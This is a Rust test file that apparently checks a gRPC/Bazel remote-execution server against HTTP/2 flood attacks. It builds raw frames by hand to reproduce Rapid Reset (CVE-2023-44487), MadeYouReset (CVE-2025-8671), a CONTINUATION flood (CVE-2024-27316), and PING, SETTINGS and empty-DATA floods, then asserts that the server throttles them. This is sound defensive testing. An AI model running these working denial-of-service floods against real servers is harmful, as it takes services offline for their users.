//! Floods of HTTP/2 frames that cost their sender nearly nothing: made by hand, since no library sends them.

use std::io::{BufReader, ErrorKind, Read as _, Write as _};
use std::net::TcpStream;
use std::thread;
use std::time::{Duration, Instant};

use super::Scene;
use super::memory::memory;

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// ENHANCE_YOUR_CALM.
const CALM: u32 = 11;

/// How long each attacker goes on, if it is let.
const SIEGE: Duration = Duration::from_secs(3);
const ATTACKERS: usize = 4;
/// What a server may have taken after all of them: a flood leaves nothing behind that grows.
const MEMORY_MAX: usize = 400 << 20;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// The headers of a call, in HPACK without a table.
fn call() -> Vec<u8> {
    fn text(to: &mut Vec<u8>, text: &str) {
        to.push(u8::try_from(text.len()).unwrap());
        to.extend(text.as_bytes());
    }
    // :method POST and :scheme http from the static table, then :path, :authority and content-type by their names in it.
    let mut block = vec![0x83, 0x86, 0x04];
    text(&mut block, "/build.bazel.remote.execution.v2.Capabilities/GetCapabilities");
    block.push(0x01);
    text(&mut block, "millpond");
    block.extend([0x0f, 0x10]);
    text(&mut block, "application/grpc");
    block
}

/// What a server has answered.
#[derive(Debug, Default)]
struct Answers {
    /// Why it ended the connection.
    goaway: Option<u32>,
    /// How many frames of each kind.
    frames: [usize; 10],
}

impl Answers {
    /// Reads them until the connection ends. Whoever reads nothing would be held up by what is answered.
    fn read(connection: &TcpStream) -> Self {
        let mut stream = BufReader::new(connection);
        let mut answers = Self::default();
        let mut head = [0; 9];
        while stream.read_exact(&mut head).is_ok() {
            let length = u32::from_be_bytes([0, head[0], head[1], head[2]]);
            let mut payload = vec![0; usize::try_from(length).unwrap()];
            if stream.read_exact(&mut payload).is_err() {
                break;
            }
            if head[3] == GOAWAY {
                answers.goaway = Some(u32::from_be_bytes(payload[4..8].try_into().unwrap()));
            }
            if let Some(count) = answers.frames.get_mut(usize::from(head[3])) {
                *count += 1;
            }
        }
        answers
    }
}

/// Sends what comes until the siege is over or the server has ended the connection.
fn besiege(address: &str, mut next: impl FnMut(u32) -> Vec<u8>) -> Answers {
    let mut connection = TcpStream::connect(address).unwrap();
    connection.set_write_timeout(Some(SIEGE)).unwrap();
    connection.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").unwrap();
    connection.write_all(&frame(SETTINGS, 0, 0, &[])).unwrap();
    let answers = connection.try_clone().unwrap();
    let reader = thread::spawn(move || Answers::read(&answers));
    let end = Instant::now() + SIEGE;
    let mut number = 0;
    while Instant::now() < end {
        let batch: Vec<u8> = (0..64)
            .flat_map(|_| {
                number += 1;
                next(number)
            })
            .collect();
        match connection.write_all(&batch) {
            Ok(()) => {}
            Err(error) if matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {}
            Err(_) => break,
        }
    }
    let _ = connection.shutdown(std::net::Shutdown::Both);
    reader.join().unwrap()
}

/// While it goes on, another client's calls succeed; returns what each attacker was answered.
fn flood(next: fn(u32) -> Vec<u8>) -> Vec<Answers> {
    let mut scene = Scene::new();
    let address = scene.server.url().trim_start_matches("http://").to_owned();
    let attackers: Vec<_> = (0..ATTACKERS)
        .map(|_| {
            let address = address.clone();
            thread::spawn(move || besiege(&address, next))
        })
        .collect();
    for _ in 0..3 {
        scene.others_notice_nothing();
    }
    let answers: Vec<_> = attackers.into_iter().map(|attacker| attacker.join().unwrap()).collect();
    scene.others_notice_nothing();
    let most = memory(&scene);
    assert!(most < MEMORY_MAX, "{most} bytes were held");
    // Had the frames been wrong, it would have been no flood.
    let malformed = |answers: &&Answers| answers.goaway.is_some_and(|code| code != CALM && code != 0);
    assert_eq!(answers.iter().filter(malformed).count(), 0, "{answers:?}");
    answers
}

/// How many were told to calm down.
fn calmed(answers: &[Answers]) -> usize {
    answers.iter().filter(|answers| answers.goaway == Some(CALM)).count()
}

/// The fewest frames of a kind that an attacker was answered.
fn fewest(answers: &[Answers], kind: u8) -> usize {
    answers.iter().map(|answers| answers.frames[usize::from(kind)]).min().unwrap()
}

fn odd(number: u32) -> u32 {
    2 * number - 1
}

/// CVE-2023-44487.
#[test]
fn calls_that_are_begun_and_reset_at_once() {
    let answers = flood(|number| {
        let reset = frame(RST_STREAM, 0, odd(number), &8_u32.to_be_bytes());
        [frame(HEADERS, END_HEADERS, odd(number), &call()), reset].concat()
    });
    assert_eq!(calmed(&answers), ATTACKERS, "{answers:?}");
}

/// Resets that the server itself is brought to send, for windows that grow beyond what there is (CVE-2025-8671).
#[test]
fn calls_that_the_server_is_made_to_reset() {
    let answers = flood(|number| {
        let stream = odd(number);
        let begin = frame(HEADERS, END_HEADERS | END_STREAM, stream, &call());
        [begin, frame(WINDOW_UPDATE, 0, stream, &0x7fff_ffff_u32.to_be_bytes())].concat()
    });
    assert!(fewest(&answers, RST_STREAM) > 10, "{answers:?}");
}

/// CVE-2024-27316: a block of headers that does not end.
#[test]
fn headers_that_go_on_without_end() {
    let answers = flood(|number| {
        let kind = if number == 1 { HEADERS } else { CONTINUATION };
        let mut block = if number == 1 { call() } else { Vec::new() };
        for field in 0..100_u32 {
            let name = format!("x-{number:08}-{field:02}");
            block.extend([0, u8::try_from(name.len()).unwrap()]);
            block.extend(name.as_bytes());
            block.extend([1, b'x']);
        }
        frame(kind, 0, 1, &block)
    });
    assert_eq!(calmed(&answers), ATTACKERS, "{answers:?}");
}

#[test]
fn settings_without_end() {
    // The largest frame, a setting that means nothing.
    let answers =
        flood(|number| frame(SETTINGS, 0, 0, &[0, 5, 0, 0, 0x40 | u8::try_from(number % 2).unwrap(), 0]));
    assert!(fewest(&answers, SETTINGS) > 100, "{answers:?}");
}

#[test]
fn pings_without_end() {
    let answers = flood(|number| frame(PING, 0, 0, &u64::from(number).to_be_bytes()));
    assert!(fewest(&answers, PING) > 100, "{answers:?}");
}

/// Frames that bring nothing, to a call that does not end.
#[test]
fn empty_data_without_end() {
    flood(
        |number| {
            if number == 1 { frame(HEADERS, END_HEADERS, 1, &call()) } else { frame(DATA, 0, 1, &[]) }
        },
    );
}
